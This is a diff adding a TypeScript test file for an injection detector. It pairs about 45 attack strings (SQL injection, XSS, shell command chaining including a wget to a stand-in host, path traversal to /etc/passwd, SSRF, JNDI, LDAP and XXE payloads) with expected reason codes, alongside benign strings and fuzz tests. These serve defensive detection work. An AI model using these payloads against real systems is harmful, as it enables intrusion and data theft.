@@ -1,0 +1,160 @@
+// The detectors on values of our own: each attack with the reason it must be found by, each innocent
+// value with nothing found, the gate against a plain loop, and bytes at random without a trap.
+import { beforeAll, describe, expect, test } from "vitest";
+import { DetectProbe } from "../vectors/detect-probe.ts";
+import { seededRandom } from "../vectors/seeded-random.ts";
+
+let probe: DetectProbe;
+beforeAll(async () => {
+  probe = await DetectProbe.create();
+});
+
+const attacks: [value: string, reason: string][] = [
+  ["1' or '1'='1", "sql.tautology"],
+  ["5 and 7=7", "sql.tautology"],
+  ['x") or ("a"="a', "sql.tautology"],
+  ["0 union all select null, password from accounts", "sql.union"],
+  ["9/**/union/**/select/**/1,2", "sql.union"],
+  ["1 /*!50000union*/ /*!50000select*/ 1,2", "sql.union"],
+  ["bob'; drop table orders", "sql.stacked_statement"],
+  ["admin'-- ", "sql.comment_truncation"],
+  ["1 and sleep(9)", "sql.tautology"],
+  ["';waitfor delay '0:0:7'--", "sql.function"],
+  ["7' order by 4-- -", "sql.clause"],
+  ["'||(select version())||'", "sql.tautology"],
+  ["<script>x()</script>", "script.tag"],
+  ["<img src=x onerror=go()>", "script.event_attribute"],
+  ['" onfocus=go() autofocus x="', "script.event_attribute"],
+  ["java\tscript:go()", "script.url"],
+  ["<a href='jav&#x61;script:go()'>", "script.url"],
+  ["';alert(7)//", "script.call"],
+  ["; wget http://h.example/x", "command.chain"],
+  ["a|id", "command.chain"],
+  ["$(whoami)", "command.substitution"],
+  ["x;w'h'oami", "command.chain"],
+  ["cat${IFS}/x", "command.substitution"],
+  ["() { :;}; echo", "command.code"],
+  ["../../secret", "path.dot_segments"],
+  ["..%252f..%252fsecret", "path.dot_segments"],
+  ["%c0%ae%c0%ae/x", "path.dot_segments"],
+  ["/etc/passwd", "path.sensitive_file"],
+  ["report.pdf%00.png", "path.null_byte"],
+  ["php://filter/read=x", "path.wrapper"],
+  ["http://127.0.0.1:9000/", "ssrf.address"],
+  ["http://0x7f.1/", "ssrf.address"],
+  ["http://[::ffff:10.0.0.1]/", "ssrf.address"],
+  ["http://localhost/", "ssrf.host"],
+  ["gopher://h.example/", "ssrf.scheme"],
+  ["{{7*7}}", "template.expression"],
+  ["${jndi:x}", "template.object"],
+  ['{"$ne": null}', "nosql.operator"],
+  ["*)(uid=*", "ldap.filter"],
+  ["x\r\nSet-Cookie: a=b", "header.line_break"],
+  ['<!DOCTYPE a [<!ENTITY b SYSTEM "c">]>', "xml.entity"],
+  ["__proto__[admin]", "prototype.key"],
+  ["PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "script.tag"],
+  ["\\u003cscript\\u003e", "script.tag"],
+  ["&lt;svg onload=go()&gt;", "script.event_attribute"],
+];
+
+const innocent = [
+  "O'Brien and sons",
+  "select a union of workers from the list",
+  "the union selected a delegate",
+  "drop the table by the door; update us",
+  "rock 'n' roll and 5 = five",
+  "It's 12:30, or later -- we will see",
+  "5' or 6' tall",
+  '18" and a half',
+  "Tom & find out; who knows",
+  "salt & sort, cats; cut the rope",
+  "1 < 2 and 3 > 2",
+  "I <3 you",
+  "a <b>bold</b> claim, <em>really</em>",
+  "JavaScript: The Good Parts",
+  "on Monday = closed",
+  "price: $5 (was $7)",
+  "{{name}}, welcome",
+  "${USER} is a placeholder",
+  "C:\\fakepath\\photo.jpg",
+  "../images/logo.png is not here".slice(3),
+  "see [docs](../guide.md)",
+  "https://example.com/a?b=c&d=e",
+  "version 10.0.0.1 of the tool",
+  "2147483647",
+  "margin: 0 auto; color: #fff",
+  "user@example.com",
+  "line one\nline two\nHost of the party",
+  "x = y; y = z",
+  "And then there were none",
+  "500 W 3rd St. #5",
+  "日本語のテキスト",
+];
+
+describe("attacks", () => {
+  test.each(attacks)("%j is %s", (value, reason) => {
+    expect(probe.judge(value).reason).toBe(reason);
+  });
+});
+
+describe("innocent values", () => {
+  test.each(innocent.map((value) => [value]))("%j", (value) => {
+    expect(probe.judge(value)).toMatchObject({ kind: "", reason: "" });
+  });
+});
+
+test("a class that is not asked for is not found", () => {
+  expect(probe.judge("1' or '1'='1", 2047 & ~1).kind).toBe("");
+  expect(probe.judge("<script>", 1).kind).toBe("");
+});
+
+test("the evidence lies within the value", () => {
+  for (const [value] of attacks) {
+    const verdict = probe.judge(value);
+    if (verdict.depth > 0) continue;
+    expect(verdict.start + verdict.length, value).toBeLessThanOrEqual(Buffer.byteLength(value));
+  }
+});
+
+const kinds = ["'\"", ";<=>", "()*", "#$%&", "[\\]^{|}~", "`", "/"]
+  .map((text) => [...text].map((c) => c.charCodeAt(0)))
+  .concat([Array.from({ length: 32 }, (_, i) => i)], [[58]], [[33]], [[45, 46]], [[44]], [[32]])
+  .concat([[43]], [[63, 95]], [Array.from({ length: 128 }, (_, i) => i + 128)]);
+
+test("the gate knows every byte, in vectors and behind them", () => {
+  for (let byte = 0; byte < 256; byte++) {
+    const wanted = kinds.reduce((sum, set, i) => sum | (set.includes(byte) ? 1 << i : 0), 0);
+    for (const size of [1, 16, 21]) {
+      const value = new Uint8Array(size).fill(97);
+      value[size - 1] = byte;
+      value[0] = byte;
+      probe.load(value);
+      expect(probe.traits(size), `byte ${byte} in ${size}`).toBe(wanted);
+    }
+  }
+});
+
+test("random bytes and torn attacks never trap", () => {
+  const below = seededRandom(7);
+  const pieces = [
+    ...attacks.map(([value]) => value),
+    "'",
+    '"',
+    "<",
+    "(",
+    "\\",
+    "%",
+    "&#",
+    "${",
+    "{{",
+  ];
+  for (let turn = 0; turn < 20000; turn++) {
+    let text = "";
+    while (text.length < 60 && below(10) < 8) {
+      const piece = pieces[below(pieces.length)];
+      text += piece.slice(below(4), below(piece.length) + 1);
+      if (below(10) < 3) text += String.fromCharCode(below(256));
+    }
+    probe.judge(Buffer.from(text, "latin1"), 2047, 1 + (turn % 3));
+  }
+});
